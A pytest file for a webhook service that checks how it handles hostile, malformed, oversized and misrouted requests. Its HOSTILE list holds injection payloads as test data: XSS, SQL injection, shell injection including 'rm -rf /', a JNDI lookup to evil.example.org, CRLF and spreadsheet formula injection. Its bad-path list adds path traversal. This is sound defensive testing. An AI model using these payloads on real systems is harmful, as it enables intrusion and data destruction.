"""Requests that are meant to hurt: too large, of no form, or full of what other programs would run."""

import json
from typing import Any

import httpx
import pytest

from tests.hooks.kit import SECRETS, Desk, signed
from workers.hooks.gate import MOST_BYTES
from workers.hooks.problems import OTHERWISE, STATUSES, refusal_of
from workers.hooks.signing import sign
from workflows.model.failure import Code, PermanentError

pytestmark = pytest.mark.asyncio(loop_scope="session")

HOSTILE = [
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "'; drop table request; --",
    "$(touch /tmp/canary) `id` ; rm -rf / | cat",
    "{{7*7}} ${jndi:ldap://evil.example.org/a} %s %n",
    "line one\r\nSet-Cookie: a=b\r\n\r\nline two",
    "\u202eright to left\u2066 and \u0000 nothing",
    "=cmd|' /C calc'!A0",
    "\U0001f4a9" * 40,
]


async def raw(d: Desk, path: str, body: bytes, content_type: str | None = "application/json") -> httpx.Response:
    """A signed request with any bytes as its body."""
    made = signed("POST", path)
    key, at = made.headers["webhook-id"], int(made.headers["webhook-timestamp"])
    signature = sign(SECRETS["ci"].encode(), key, at, "POST", path, body)
    headers = {"webhook-id": key, "webhook-timestamp": str(at), "webhook-signature": signature}
    if content_type is not None:
        headers["content-type"] = content_type
    return await d.send(httpx.Request("POST", f"https://hooks.example.org{path}", headers=headers, content=body))


@pytest.mark.parametrize("text", HOSTILE)
async def test_hostile_words_stay_words(d: Desk, text: str) -> None:
    reason = f"why: {text}"
    answer = await d.signed("POST", d.proposals, {"reason": reason})
    assert answer.status_code == 202, answer.text
    gate = await d.gate(answer)
    assert gate.approvers == ("anna", "carl")
    report = (await d.signed("GET", f"/v1/runs/{answer.json()['run']}/report")).json()
    assert report["reason"] == reason
    path = f"/v1/runs/{answer.json()['run']}"
    for tail, body in (
        ("acknowledge", {"note": text}),
        ("answers", {"action": "retry", "step": text[:100], "reason": text}),
        ("approve", {"code": "ABCD", "comment": text}),
    ):
        said = await d.signed("POST", f"{path}/{tail}", body, by="ops")
        assert said.status_code < 500
        assert set(said.headers) <= {"content-type", "content-length", "retry-after"}
    await d.run(answer).cancel()


NONSENSE: list[bytes] = [
    b"",
    b"{",
    b"null",
    b"[]",
    b'"reason"',
    b"7",
    b"\xff\xfe\x00",
    b'{"reason": "\xff"}',
    b'{"reason": "\\ud800 lone"}',
    b'{"\\ud800": "lone", "reason": "why not"}',
    b'{"reason": NaN}',
    b'{"reason": ' + b"9" * 5000 + b"}",
    b"[" * 30_000,
    b'{"reason":' * 5000,
    json.dumps({"reason": "why not", "requested_by": "anna"}).encode(),
    json.dumps({"reason": "why not", "adopts": 3}).encode(),
    json.dumps({"reason": "why not", "proposed": False}).encode(),
    json.dumps({"reason": "x" * 501}).encode(),
    json.dumps({"reason": ["why not"]}).encode(),
]


@pytest.mark.parametrize("body", NONSENSE, ids=lambda body: repr(body[:24]))
async def test_nonsense_is_a_problem_and_starts_nothing(d: Desk, body: bytes) -> None:
    answer = await raw(d, d.proposals, body)
    assert answer.status_code in (400, 422), answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert set(answer.json()) == {"type", "title", "status", "detail", "next_step"}
    assert await d.all_runs() == set()


@pytest.mark.parametrize(
    "kind", [None, "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "json"]
)
async def test_a_body_that_does_not_say_that_it_is_json_is_not_read(d: Desk, kind: str | None) -> None:
    assert (await raw(d, d.proposals, b'{"reason": "why not"}', kind)).status_code == 415


async def test_a_body_may_be_as_long_as_it_says_and_no_longer(d: Desk) -> None:
    async def endless() -> Any:
        while True:
            yield b" " * 8192

    assert (await raw(d, d.proposals, b" " * (MOST_BYTES + 1))).status_code == 413
    assert (await raw(d, d.proposals, b" " * MOST_BYTES)).status_code == 400
    stream = httpx.Request("POST", "https://hooks.example.org/v1/propose/opsgenie", content=endless())
    assert (await d.send(stream)).status_code == 413


BAD_PATHS = [
    "/v1/runs/failover/shop",
    "/v1/runs/failover/shop/a/b/c",
    "/v1/runs/destroy/shop/2026",
    "/v1/runs/failover/SHOP/2026",
    "/v1/runs/failover/shop/..%2f..%2fetc",
    "/v1/runs/failover/shop/%00",
    "/v1/runs/failover/shop/%ff",
    "/v1/runs/failover/shop/a%0d%0ab",
    "/v1/runs/failover/shop/2026-11-22T14-05-33Z",
    "/v1/runs?application=A",
    "/v1/runs?application=shop'%20or%201=1",
    "/v1/runs?limit=0",
    "/v1/runs?limit=1000000",
    "/v1/runs/",
    "/v1/applications/",
    "//v1/applications",
    "/v1",
]


@pytest.mark.parametrize("path", BAD_PATHS)
async def test_addresses_of_nothing_are_a_clean_refusal(d: Desk, path: str) -> None:
    answer = await d.signed("GET", path)
    assert answer.status_code in (404, 422), answer.text
    assert answer.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "GET", "TRACE", "OPTIONS", "HEAD"])
async def test_other_methods_are_405(d: Desk, method: str) -> None:
    answer = await d.signed(method, d.proposals)
    assert answer.status_code == 405
    assert answer.headers["allow"] == "POST"


async def test_whoever_may_not_read_a_run_is_told_so(d: Desk) -> None:
    first = await d.propose()
    assert (await d.signed("GET", f"/v1/runs/{first.json()['run']}", by="nobody")).status_code == 403
    await d.run(first).cancel()


@pytest.mark.parametrize("code", list(Code))
async def test_every_code_of_the_core_has_a_status(code: Code) -> None:
    refusal = refusal_of(PermanentError(code, "A sentence.", "A next step."))
    assert refusal.status == STATUSES.get(code, OTHERWISE)
    assert 400 <= refusal.status < 600
    assert refusal.problem.model_dump() | {"title": ""} == {
        "type": f"urn:seawall:problem:{code}",
        "title": "",
        "status": refusal.status,
        "detail": "A sentence.",
        "next_step": "A next step.",
    }
    assert ("retry-after" in refusal.headers) is (refusal.status in (429, 503))


async def test_no_secret_is_in_a_log_an_answer_or_the_description(
    d: Desk, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    with caplog.at_level("DEBUG"):
        answers = [
            await d.propose(),
            await d.propose(secret="not-the-secret-but-long-enough-for-one"),
            await d.signed("GET", "/openapi.json"),
            await raw(d, d.proposals, b"{"),
        ]
    out = capfd.readouterr()
    told = caplog.text + out.out + out.err + "".join(one.text + str(one.headers) for one in answers)
    assert "by ci (hmac" in caplog.text, "who did what is logged"
    assert [secret for secret in SECRETS.values() if secret in told] == []
    assert "not-the-secret" not in told
    await d.run(answers[0]).cancel()


async def test_a_server_that_cannot_remember_takes_nothing(d: Desk) -> None:
    d.app.state.store._base.execute("drop table request")
    answer = await d.propose()
    assert (answer.status_code, answer.json()["type"]) == (503, "urn:seawall:problem:FORGETFUL")
    assert await d.all_runs() == set()


@pytest.mark.deep
async def test_without_a_control_worker_the_answer_is_503_and_a_retry_finds_it_again(d: Desk) -> None:
    first = await d.propose()
    await d.bed.crew.stop("control")
    answer = await d.signed("GET", f"/v1/runs/{first.json()['run']}")
    assert answer.status_code == 503
    assert answer.headers["retry-after"]
    assert answer.json()["type"] == "urn:seawall:problem:UNREACHABLE"
    await d.bed.crew.start("control")
    assert (await d.signed("GET", f"/v1/runs/{first.json()['run']}")).status_code == 200
    await d.run(first).cancel()
